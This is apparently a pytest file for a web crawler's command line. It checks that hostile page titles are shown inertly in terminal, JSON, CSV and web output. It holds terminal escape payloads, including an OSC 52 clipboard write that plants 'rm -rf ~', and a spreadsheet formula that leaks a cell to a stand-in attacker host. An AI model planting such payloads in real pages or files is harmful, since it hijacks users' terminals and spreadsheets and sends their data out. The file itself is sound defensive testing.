"""A page's words are shown to the operator, never obeyed by the operator's terminal.

A hostile site puts terminal commands in its title and text: OSC 52 (write the clipboard),
OSC 0 (the window title), an OSC 8 link, a screen clear, the one-byte C1 CSI (U+009B), and a
bidi override (U+202E, which makes ``gnp.exe`` read ``exe.png``). After a real crawl, the real
command line runs ``search`` on a pseudo-terminal (what a person's terminal receives, with
click's own colours on) and through a pipe, and ``export`` writes JSON Lines and CSV. What the
terminal got carries no escape but the command's own colour codes; JSON still holds the page's
true title (a JSON reader gets it back whole), written with ``\\u`` escapes; CSV runs no formula.
The web page shows a U+FFFD where each of those characters was (a browser obeys the bidi
controls, and a result page fetched with ``curl`` reaches a terminal too).
The control: the title the index holds (read through the API, not the terminal) has every one
of those bytes, so they did reach the output stage.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import select
import subprocess
import time
import urllib.request
from urllib.parse import quote

from politecrawl.index import Searcher

from conftest import cli_command, cli_env, run_cli, serving
from servers.sandbox import SandboxHost

ESC, BEL = "\x1b", "\x07"
ATTACKS = (
    f"{ESC}]52;c;cm0gLXJmIH4K{BEL}"  # OSC 52: the clipboard now holds 'rm -rf ~'
    f"{ESC}]0;pwned{BEL}"  # OSC 0: the window title
    f"{ESC}]8;;https://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\"  # OSC 8: a hidden link
    f"{ESC}[2J{ESC}[H"  # clear the screen, cursor home
    "\x9b31m"  # C1 CSI: red, on terminals that read C1
)
BIDI = "invoice\u202egnp.exe"
TITLE = f"Zanzibar report {ATTACKS} {BIDI}"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
SITE_COLOURS = re.compile(r"\x1b\[[0-9;]*m")  # click's bold and green: the command's own SGR codes


def _hostile_site() -> SandboxHost:
    page = (
        f"<html><head><title>{TITLE}</title></head><body><p>zanzibar harbour notes {ATTACKS} {BIDI}</p></body></html>"
    )
    formula_page = f"<html><head><title>{FORMULA}</title></head><body><p>zanzibar spreadsheet</p></body></html>"
    return SandboxHost(
        "127.0.4.61",
        pages={"/": page + '<a href="/sheet">sheet</a>', "/sheet": formula_page},
    )


def _on_a_terminal(*args: str, timeout: float = 60) -> bytes:
    """Run the command line on a pseudo-terminal; everything the terminal received."""
    main, child = pty.openpty()
    proc = subprocess.Popen(cli_command(*args), stdin=child, stdout=child, stderr=child, env=cli_env())
    os.close(child)
    out = bytearray()
    deadline = time.monotonic() + timeout
    poller = select.poll()  # not select(): a test process may hold more than 1,024 descriptors
    poller.register(main, select.POLLIN)
    try:
        while time.monotonic() < deadline:
            ready = poller.poll(500)
            if ready:
                try:
                    chunk = os.read(main, 65536)
                except OSError:  # the child closed the terminal
                    break
                if not chunk:
                    break
                out += chunk
            elif proc.poll() is not None:
                break
    finally:
        os.close(main)
        if proc.poll() is None:
            proc.kill()
        proc.wait(10)
    assert proc.returncode == 0, out.decode(errors="replace")
    return bytes(out)


def _strings(value) -> list[str]:
    """Every string in a JSON value."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        value = list(value.values())
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


def _assert_inert(text: str) -> None:
    bare = SITE_COLOURS.sub("", text)
    for bad in (ESC, BEL, "\x9b", "\u202e"):
        assert bad not in bare, (bad, bare)


def test_titles_and_snippets_never_reach_the_terminal_as_commands(sandbox_factory, tmp_path):
    sb = sandbox_factory([_hostile_site()])
    db = str(tmp_path / "h.db")
    host = sb.hosts[0]
    done = run_cli("crawl", host.url("/"), "--db", db, "--min-delay", "0.1", "--max-time", "30")
    assert done.returncode == 0, done.stderr

    # The control: the index holds the attack whole; what follows is how it is shown.
    hits = Searcher(tmp_path / "h.db.index").search("zanzibar harbour")
    assert hits and all(part in hits[0].title for part in (ESC, BEL, "\x9b", "\u202e"))

    terminal = _on_a_terminal("search", "zanzibar harbour", "--db", db).decode("utf-8", errors="replace")
    assert SITE_COLOURS.search(terminal), "the terminal got no colours: not a real terminal"
    assert "Zanzibar report" in terminal and "\\x1b]52" in terminal  # shown, visibly
    _assert_inert(terminal)

    piped = run_cli("search", "zanzibar harbour", "--db", db)
    assert piped.returncode == 0 and "Zanzibar report" in piped.stdout
    _assert_inert(piped.stdout)

    as_json = run_cli("search", "zanzibar harbour", "--db", db, "--json")
    _assert_inert(as_json.stdout)
    assert json.loads(as_json.stdout)[0]["title"] == hits[0].title  # the data as they are

    jsonl = run_cli("export", "--db", db, "--format", "jsonl")
    assert jsonl.returncode == 0, jsonl.stderr
    _assert_inert(jsonl.stdout)
    titles = {json.loads(line)["url"]: json.loads(line)["title"] for line in jsonl.stdout.splitlines()}
    assert titles[host.url("/")] == hits[0].title

    why = _on_a_terminal("why", host.url("/"), "--db", db).decode("utf-8", errors="replace")
    assert "Zanzibar report" in why and "\\x1b]52" in why  # the title, shown visibly
    _assert_inert(why)
    why_json = run_cli("why", host.url("/"), "--db", db, "--json")
    assert why_json.returncode == 0, why_json.stderr
    _assert_inert(why_json.stdout)
    assert hits[0].title in _strings(json.loads(why_json.stdout))  # the data as they are

    as_csv = run_cli("export", "--db", db, "--format", "csv")
    assert as_csv.returncode == 0, as_csv.stderr
    _assert_inert(as_csv.stdout)
    rows = {row["url"]: row for row in csv.DictReader(io.StringIO(as_csv.stdout))}
    assert rows[host.url("/sheet")]["title"] == "'" + FORMULA  # a text cell, not a formula
    assert not any(str(v).startswith("=") for row in rows.values() for v in row.values())

    with serving("--db", db) as server:
        with urllib.request.urlopen(f"{server.base}/search?q={quote('zanzibar harbour')}", timeout=30) as answer:
            page = answer.read().decode("utf-8")
    assert "Zanzibar report" in page and "zanzibar harbour notes" in page.replace("<mark>", "").replace("</mark>", "")
    assert "\ufffd]52;c;" in page and "invoice\ufffdgnp.exe" in page  # the marks of what was there
    _assert_inert(page)
